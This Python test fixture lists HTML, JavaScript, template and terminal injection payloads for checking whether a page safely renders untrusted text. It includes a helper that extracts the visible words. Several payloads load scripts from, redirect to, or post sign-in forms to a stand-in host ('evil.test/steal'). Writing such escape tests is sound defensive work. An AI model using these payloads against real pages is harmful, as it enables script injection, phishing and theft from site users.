"""Texts that would run, load, hide or break something on a page that trusted them."""

from __future__ import annotations

import re

HOST = "evil.test"
_RUN = "window.__pwned=1"
LONG = 400

PAYLOADS = (
    # elements that run or load
    f"<script>{_RUN}</script>",
    f"<script src=//{HOST}/1.js></script>",
    f"</script><script>{_RUN}</script>",
    f"<ScRiPt/x>{_RUN}</sCrIpT >",
    f"<img src=x onerror={_RUN}>",
    f"<img src=//{HOST}/pixel.png>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><a xlink:href=javascript:{_RUN}><text>x</text></a></svg>",
    f"<svg><use href=data:image/svg+xml,<svg/onload={_RUN}>></svg>",
    f"<math><mtext><style><img src onerror={_RUN}>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    f"<object data=//{HOST}/x></object>",
    f"<embed src=//{HOST}/x>",
    f"<video><source onerror={_RUN}></video>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<a href=javascript:{_RUN}>click</a>",
    f"<form action=//{HOST}/steal><button>Sign in</button>",
    f"<button formaction=//{HOST}/steal>Sign in</button>",
    f"<meta http-equiv=refresh content='0;url=//{HOST}/'>",
    f"<base href=//{HOST}/>",
    f"<link rel=stylesheet href=//{HOST}/x.css>",
    f"<style>@import '//{HOST}/x.css';</style>",
    "<style>*{display:none!important}</style>",
    "<plaintext>",
    "<template><p>gone</template>",
    # ways out of where a text stands
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    "</pre></main><h1>Signed out</h1>",
    f"</style><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f'" onmouseover="{_RUN}" x="',
    f"' onfocus='{_RUN}' autofocus x='",
    f'" autofocus onfocus={_RUN} "',
    f"`${{{_RUN}}}`",
    f"'-({_RUN})-'",
    f'"></option></select><script>{_RUN}</script>',
    '" style="position:fixed;inset:0;background:red" x="',
    "x:expression(alert(1));} body{display:none}",
    # addresses
    f"javascript:{_RUN}//",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"//{HOST}/\\@127.0.0.1",
    # languages of templates, documents and terminals
    "{{7*191}} {% raw %} {# x #}",
    "${7*191} <%= 7*191 %> #{7*191}",
    f"[click](javascript:{_RUN}) ![x](//{HOST}/x.png) **bold**",
    "\x1b[2J\x1b]0;owned\x07\x1b[31mred\x1b[0m \x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07",
    "&lt;script&gt; &#60;b&#62; &amp;amp; &nbsp;",
    # letters that hide, turn around or fill
    "\u202egnp.exe\u202c \u2066x\u2069 \u200f\u200e",
    "nul\x00and\x01and\x7fand\x9b31m",
    "\ufeff\u200b\u2060\u00ad zero width",
    "Z\u0351\u0352\u0353\u0354" + "\u0355\u0356\u0357" * 20 + " algo",
    "\uff1cscript\uff1e\u2028\u2029\u0085 \U0001f468\u200d\U0001f469\u200d\U0001f467",
    "w" * LONG,
)
GROUP = 3
GROUPS = tuple(" | ".join(PAYLOADS[first : first + GROUP]) for first in range(0, len(PAYLOADS), GROUP))

_SEEN = re.compile(r"[a-z0-9<>=/:'\"{}$%!*();.@#&\[\]-]+", re.IGNORECASE)


def words(text: str) -> list[str]:
    """Return the words of a text that a page shows as they are: without control and direction marks.

    A word of a payload that a page leaves out was read as markup.
    """
    plain = re.sub("\x1b\\][^\x07]*\x07|\x1b\\[[0-9;]*[A-Za-z]|\x9b31m", " ", text)
    return [word[:40] for word in _SEEN.findall(re.sub("[\x00-\x1f\x7f-\x9f]", " ", plain))]
